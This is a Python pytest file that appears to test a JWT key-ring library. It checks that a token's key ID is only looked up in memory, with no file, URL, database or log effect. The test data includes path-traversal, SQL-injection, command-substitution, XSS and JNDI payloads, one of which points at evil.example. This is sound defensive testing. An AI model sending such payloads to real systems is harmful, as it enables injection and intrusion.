"""A kid is looked up in memory and nowhere else: it names no file, no address, no row and no log line."""

from __future__ import annotations

import logging

import pytest

from tenantgate.core.keys import KeySet, KeySetRef
from tests.builders import json_bytes, signer
from tests.discovery.fakes import JWKS, METADATA, World

A = signer("ES256", "a")
REF = KeySetRef("globex")
KIDS = [
    "../../../../etc/passwd", "/dev/random", "keys/%2e%2e/%2e%2e", "file:///etc/passwd", "C:\\keys\\a",
    "' OR '1'='1", "a'; DROP TABLE keys; --", "1 UNION SELECT 'key'", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "%s%s%n", "$(id)", "`id`", "|id", "<script>alert(1)</script>", "https://evil.example/keys", "@evil.example",
    "?kid=a", "#a", "a b", "*", ".*", "__proto__", "constructor", "None", "null", "0", "-1", "A" * 256,
    "\u202ea", "\U0001f511", "a" * 255 + "\u00e9",
]  # fmt: skip


@pytest.mark.threat(32)
@pytest.mark.parametrize("kid", KIDS)
async def test_a_kid_chooses_neither_address_nor_key(kid: str):
    """Whatever it says, the fetch it may cause goes to the operator's address, and finds what is published."""
    world = World(A)
    await world.keyring.ensure(REF, kid)
    found = world.keyring.key_set(REF)

    assert world.door.seen == {METADATA: 1, JWKS: 1}
    assert isinstance(found, KeySet)
    assert found.find(kid) is None
    assert found.find(A.kid) is not None


@pytest.mark.threat(32)
async def test_a_published_kid_of_any_spelling_is_found_letter_by_letter():
    """An issuer may name its keys oddly: each is found by exactly its own name, and by nothing like it."""
    named = [kid for kid in KIDS if kid.isprintable()]
    world = World()
    world.door.documents[JWKS] = json_bytes({"keys": [A.jwk(kid=kid) for kid in named]})
    await world.keyring.ensure(REF, named[0])
    found = world.keyring.key_set(REF)

    assert isinstance(found, KeySet)
    assert list(found.keys) == named
    assert all(key.kid == kid for kid, key in found.keys.items())
    assert all(found.find(other) is None for kid in named for other in (kid + " ", " " + kid, kid + "\x00"))


@pytest.mark.threat(29, 32)
async def test_unknown_kids_are_not_written_down(caplog: pytest.LogCaptureFixture):
    """At its most talkative the key ring says nothing of the kids it was asked for, and keeps few of them."""
    caplog.set_level(logging.DEBUG)
    world = World(A)
    await world.keyring.ensure(REF, A.kid)
    await world.clock.advance(30)
    for number in range(10_000):
        await world.keyring.ensure(REF, f"{KIDS[number % len(KIDS)]}{number}")

    assert world.fetches == 2
    assert not any(kid in caplog.text for kid in KIDS if len(kid) > 4)
    assert len(repr(world.health())) < 2_000
